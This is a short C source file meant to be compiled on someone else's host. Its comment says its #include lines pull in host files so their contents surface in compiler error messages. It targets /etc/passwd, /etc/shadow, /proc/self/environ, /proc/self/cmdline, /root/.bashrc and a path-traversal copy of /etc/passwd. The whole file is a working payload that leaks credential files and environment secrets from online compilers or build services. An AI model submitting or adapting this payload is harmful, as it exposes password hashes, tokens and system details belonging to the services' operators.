// Include files of the host, whose lines the compiler would show in its complaints.
#include "/etc/passwd"
#include "/etc/shadow"
#include "/etc/hostname"
#include "/proc/self/environ"
#include "/proc/self/cmdline"
#include "../../etc/passwd"
#include "/root/.bashrc"
int main() {}
